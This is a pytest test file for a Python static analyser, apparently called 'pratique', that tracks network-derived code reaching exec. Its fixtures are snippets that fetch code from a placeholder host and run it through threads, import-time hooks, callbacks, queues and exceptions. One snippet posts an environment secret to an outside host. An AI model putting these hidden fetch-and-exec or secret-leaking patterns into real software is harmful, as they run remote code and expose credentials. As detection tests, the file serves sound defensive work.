"""Callables handed to outside code, and values that travel through objects, exceptions and generators."""

from __future__ import annotations

import hashlib

import pytest

from pratique.artifact import Member, Role
from pratique.facts.python.model import Call, Source
from pratique.facts.python.reader import read_python
from pratique.finding import Phase

_GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('http://192.0.2.7/a').read()\n\n"


def _executed(source: str) -> list[Call]:
    data = (_GET + source).encode()
    digest = hashlib.sha256(data).hexdigest()
    member = Member(path="m.py", data=data, sha256=digest, size=len(data), role=Role.MODULE)  # type: ignore[arg-type]
    return [c for c in read_python(member).calls if c.name == "exec"]


@pytest.mark.parametrize(
    "source",
    [
        "import threading\nthreading.Thread(target=exec, args=(get(),)).start()",
        "import threading\nthreading.Thread(None, exec, None, (get(),)).start()",
        "import threading\nthreading.Thread(target=lambda c: exec(c), kwargs={'c': get()}).start()",
        "import threading\nthreading.Timer(5, exec, [get()]).start()",
        "import threading\nclass T(threading.Thread):\n    def run(self):\n        exec(get())\nT().start()",
        "import _thread\n_thread.start_new_thread(exec, (get(),))",
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(exec, get())",
        "from concurrent.futures import ThreadPoolExecutor\nexec(ThreadPoolExecutor().submit(get).result())",
        "from multiprocessing import Pool\nPool(1).apply_async(exec, (get(),))",
        "import atexit\natexit.register(exec, get())",
        "import atexit\n@atexit.register\ndef bye():\n    exec(get())",
        "import weakref\nweakref.finalize(object(), exec, get())",
        "import sched\nsched.scheduler().enter(1, 1, exec, (get(),))",
        "import functools\nfunctools.partial(exec, get())()",
        "import functools\nfunctools.reduce(lambda f, c: f(c), [get()], exec)",
        "import itertools\nlist(itertools.starmap(exec, [(get(),)]))",
        "sorted([get()], key=exec)",
        "list(filter(exec, [get()]))",
        "for c in iter(get, None):\n    exec(c)",
        "import re\nre.sub('x', lambda m: exec(get()) or '', 'x')",
        "import sys\nsys.excepthook = lambda *a: exec(get())",
        "import gc\ngc.callbacks.append(lambda *a: exec(get()))",
        "import somewhere\nsomewhere.run(exec, get())",
        "import somewhere\nsomewhere.each(lambda: exec(get()))",
        "import ftplib\nftplib.FTP('192.0.2.7').retrlines('RETR a', exec)",
        "import html.parser as h\nclass P(h.HTMLParser):\n  def handle_data(s, d):\n   exec(d)\nP().feed(str(get()))",
        "import builtins\nbuiltins.print = exec\nprint(get())",
    ],
)
def test_a_callable_that_is_handed_over_runs(source: str) -> None:
    """Outside code calls what it is given, with what it is given, while the module is imported."""
    found = [c for c in _executed(source) if c.phase is Phase.IMPORT]
    assert found
    assert any(c.taints(Source.NETWORK) for c in found)


@pytest.mark.parametrize(
    "source",
    [
        "import flask\napp = flask.Flask('x')\napp.add_url_rule('/', view_func=lambda: exec(get()))",
        "import tk\ntk.Button(command=lambda: exec(get()))",
        "def go():\n    exec(get())\n\nprint(callable(go), isinstance(go, type(go)))",
        "import functools\ndef d(f):\n    @functools.wraps(f)\n    def inner():\n        exec(get())\n    return inner",
    ],
)
def test_a_callable_that_is_only_kept_does_not(source: str) -> None:
    """What is registered under a keyword, or merely looked at, is left to the user."""
    assert {c.phase for c in _executed(source)} == {Phase.CALL}


@pytest.mark.parametrize(
    "source",
    [
        "import queue\nq = queue.Queue()\nq.put(get())\nexec(q.get())",
        "from collections import deque\nq = deque()\nq.append(get())\nexec(q.popleft())",
        "import contextvars\nv = contextvars.ContextVar('v')\nv.set(get())\nexec(v.get())",
        "import io\nb = io.BytesIO()\nb.write(get())\nexec(b.getvalue())",
        "import somewhere\no = somewhere.Box()\no.keep(get())\nexec(o.give())",
        "import somewhere\no = somewhere.Box()\no.x = get()\nexec(o.give())",
        "def s(): ...\n\ns.c = get()\nexec(s.c)",
        "import somewhere\nsomewhere.c = get()\nexec(somewhere.c)",
        "class S: ...\n\nsetattr(S, 'c', get())\nexec(getattr(S, 'c'))",
        "d = {}\nd.update(c=get())\nexec(d['c'])",
        "from dataclasses import dataclass\n@dataclass\nclass S:\n    c: bytes\nexec(S(get()).c)",
        "try:\n    raise ValueError(get())\nexcept ValueError as e:\n    exec(e.args[0])",
        "class E(Exception): ...\ntry:\n    raise E(get())\nexcept E as e:\n    exec(str(e))",
        "def g():\n    return get()\n    yield\ntry:\n    next(g())\nexcept StopIteration as e:\n    exec(e.value)",
        "def g():\n    c = yield\n    exec(c)\ni = g()\nnext(i)\ni.send(get())",
        "def g():\n    yield get()\ndef h():\n    yield from g()\nfor c in h():\n    exec(c)",
        "def o():\n    c = ''\n    def i():\n        nonlocal c\n        c = get()\n    i()\n    exec(c)\no()",
        "def go(n):\n    return get() if n == 0 else go(n - 1)\nexec(go(3))",
    ],
)
def test_a_value_is_followed_through_what_keeps_it(source: str) -> None:
    """Queues, buffers, attributes, exceptions, generators and scopes give back what they were given."""
    assert any(c.taints(Source.NETWORK) for c in _executed(source))


def test_what_a_client_sent_is_not_what_it_receives() -> None:
    """An object that sends things away does not hand them back: only what stays in the process does."""
    source = "import os, requests\ns = requests.Session()\ns.post('https://a.invalid/', data=os.environ['KEY'])\nexec(s.get('https://a.invalid/').text)"
    assert not _executed(source)[0].taints(Source.VARIABLE)


def test_a_replacement_may_call_the_original() -> None:
    """What stands in the place of an outside function still reaches that one."""
    source = "import builtins\nreal = exec\n\ndef fake(c):\n    real(c)\n\nbuiltins.exec = fake\nexec(get())\n"
    assert any(c.taints(Source.NETWORK) for c in _executed(source))
